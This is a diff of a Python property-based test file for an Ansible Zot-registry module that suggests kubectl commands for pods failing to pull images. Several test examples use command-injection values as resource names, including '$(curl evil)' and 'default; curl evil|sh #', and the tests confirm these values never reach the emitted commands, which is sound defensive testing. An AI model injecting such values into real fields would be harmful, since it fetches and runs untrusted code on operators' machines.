@@ -17,17 +17,25 @@ import yaml
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
-from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info import run as verdict
-from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info.state import (
-    Answer,
-    ClusterState,
-    ImageFacts,
-    RegistryState,
+from ansible_collections.killinit.zot.plugins.module_utils._oci.image import (
+    INDEX_TYPES,
+    Entry,
+    Image,
+    Manifest,
+    Platform,
 )
+from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
+from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info import run as entry_file
+from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info.cluster import FailingPods
+from ansible_collections.killinit.zot.plugins.module_utils._pull_failure_info.registry import (
+    RegistryAnswers,
+    RepositoryAnswer,
+)
+from ansible_collections.killinit.zot.plugins.module_utils._registry.errors import ZotError
 from ansible_collections.killinit.zot.plugins.module_utils._registry.session import Options, open_task
 from ansible_collections.killinit.zot.tests.unit.pull_scene import NAMESPACE, NOW, REGISTRY, Scene, node
 
+Ask = t.Callable[..., RegistryAnswers]
 NAME = r"[a-z0-9]([-a-z0-9.]*[a-z0-9])?"
 IMAGE = r"[a-zA-Z0-9.-]+(:[0-9]+)?(/[a-z0-9]+([._-]+[a-z0-9]+)*)+(:[A-Za-z0-9_][A-Za-z0-9_.-]*|@sha256:[0-9a-f]{64})"
 RESOURCE = rf"(deployment|statefulset|daemonset|pod)/{NAME}"
@@ -164,39 +172,57 @@ def altered(draw: st.DrawFn) -> Scene:
     return scene
 
 
-def answers(draw: st.DrawFn) -> t.Callable[..., RegistryState]:
+def answers(draw: st.DrawFn) -> Ask:
     """A registry that has the images, or not, or refuses the accounts."""
     error, exists = draw(st.sampled_from(["", "unauthorized", "denied", "quota_exceeded"])), draw(st.booleans())
-    facts = ImageFacts(exists=True, digest=f"sha256:{'1' * 64}", platforms=(f"linux/{draw(hostile)}", "linux/amd64"))
+    platforms = [Platform("linux", draw(hostile)), Platform("linux", "amd64")]
+    entries = tuple(Entry(f"sha256:{'2' * 64}", each) for each in platforms)
+    index = Manifest(f"sha256:{'1' * 64}", next(iter(INDEX_TYPES)), {}, entries=entries)
     tags = draw(st.sampled_from([None, [], ["1", "x-y_z.2"]]))
 
-    def ask(_task: t.Any, _options: t.Any, cluster: ClusterState) -> RegistryState:
-        images = cluster.images()
-        known = {
-            str(each): facts if exists else ImageFacts(exists=False) for found in images.values() for each in found
-        }
-        operator = [Answer(each, images=known, tags=tags, listed=True) for each in images]
+    def ask(_task: t.Any, _options: t.Any, failing: FailingPods) -> RegistryAnswers:
+        images = failing.images()
+        known = {each: Image(each, index if exists else None) for found in images.values() for each in found}
+        operator = [RepositoryAnswer(each, images=known, tags=tags, listed=True) for each in images]
         near = [Reference(REGISTRY, each, tag) for each in [*images, "openclaw/openclaw"] for tag in ("1", "x-y_z.2")]
-        pods = [Answer(repository, secret, error) for repository, secret, _entry in cluster.accounts()]
-        return RegistryState(operator, pods, {str(each): facts for each in near}, ["openclaw/openclaw"])
+        refusal = ZotError(error, "refused") if error else None
+        pods = [RepositoryAnswer(repository, secret, refusal) for repository, secret, _entry in failing.users()]
+        return RegistryAnswers(operator, pods, {each: Image(each, index) for each in near}, ["openclaw/openclaw"])
 
     return ask
 
 
 @st.composite
-def scenes(draw: st.DrawFn) -> tuple[Scene, t.Callable[..., RegistryState]]:
+def scenes(draw: st.DrawFn) -> tuple[Scene, Ask]:
     return altered(draw), answers(draw)
 
 
-def hostile_owner(kind: str, name: str) -> tuple[Scene, t.Callable[..., RegistryState]]:
-    return Scene.of("wrong").owner(kind, name), lambda *_arguments: RegistryState()
+def hostile_owner(kind: str, name: str) -> tuple[Scene, Ask]:
+    return Scene.of("wrong").owner(kind, name), lambda *_arguments: RegistryAnswers()
 
 
-def without_account(service_account: str) -> tuple[Scene, t.Callable[..., RegistryState]]:
+def without_account(service_account: str) -> tuple[Scene, Ask]:
     """A pod that names no pull secret, of a service account of this name."""
     scene = Scene.of("nosecret")
     scene.pod["spec"]["serviceAccountName"] = service_account
-    return scene, lambda *_arguments: RegistryState(pods=[Answer("openclaw/openclaw", "", "unauthorized")])
+    return scene, lambda *_arguments: RegistryAnswers(
+        pods=[RepositoryAnswer("openclaw/openclaw", "", ZotError("unauthorized", "refused"))]
+    )
+
+
+def explained(scene: Scene, ask: Ask) -> dict[str, t.Any]:
+    params = {
+        "registry": REGISTRY,
+        "namespace": NAMESPACE,
+        "label_selectors": [],
+        "pull_timeout": 20,
+        "pull_secret": "zot-pull-secret",
+        "allow_empty": False,
+    }
+    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder, open_task(folder) as task:
+        patch.setattr(entry_file, "query_registry", ask)
+        patch.setattr(entry_file, "time", types.SimpleNamespace(time=lambda: NOW))
+        return entry_file.run(scene.cluster(), task, Options(REGISTRY), entry_file.PodScope.of(params))
 
 
 @settings(max_examples=3 * settings().max_examples)
@@ -208,20 +234,9 @@ def without_account(service_account: str) -> tuple[Scene, t.Callable[..., Regist
 @example(hostile_owner("Deployment", "$(curl evil)"))
 @example(hostile_owner("Deployment", "--all"))
 @example(without_account("default; curl evil|sh #"))
-def test_commands(found: tuple[Scene, t.Callable[..., RegistryState]]) -> None:
+def test_commands(found: tuple[Scene, Ask]) -> None:
     scene, ask = found
-    params = {
-        "registry": REGISTRY,
-        "namespace": NAMESPACE,
-        "label_selectors": [],
-        "pull_timeout": 20,
-        "pull_secret": "zot-pull-secret",
-        "allow_empty": False,
-    }
-    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder, open_task(folder) as task:
-        patch.setattr(verdict, "ask_registry", ask)
-        patch.setattr(verdict, "time", types.SimpleNamespace(time=lambda: NOW))
-        result = verdict.explain_pull_failures(scene.cluster(), task, Options(REGISTRY), verdict.Query.of(params))
+    result = explained(scene, ask)
     for finding in result["findings"]:
         for command in finding["commands"]:
             check(command)
@@ -234,19 +249,7 @@ def test_commands(found: tuple[Scene, t.Callable[..., RegistryState]]) -> None:
 def test_the_finding_says_what_is_left_out(kind: str, name: str) -> None:
     """The pods can be deleted by their own names; the owner is in no command."""
     scene, ask = hostile_owner(kind, name)
-    params = {
-        "registry": REGISTRY,
-        "namespace": NAMESPACE,
-        "label_selectors": [],
-        "pull_timeout": 20,
-        "pull_secret": "a",
-        "allow_empty": False,
-    }
-    with pytest.MonkeyPatch.context() as patch, tempfile.TemporaryDirectory() as folder, open_task(folder) as task:
-        patch.setattr(verdict, "ask_registry", ask)
-        (finding,) = verdict.explain_pull_failures(scene.cluster(), task, Options(REGISTRY), verdict.Query.of(params))[
-            "findings"
-        ]
+    (finding,) = explained(scene, ask)["findings"]
     assert "curl evil" in finding["remedy"]
     assert not [each for each in finding["commands"] if "curl" in each]
     assert finding["commands"][-1].startswith("kubectl --namespace=openclaw delete pod wrong-")
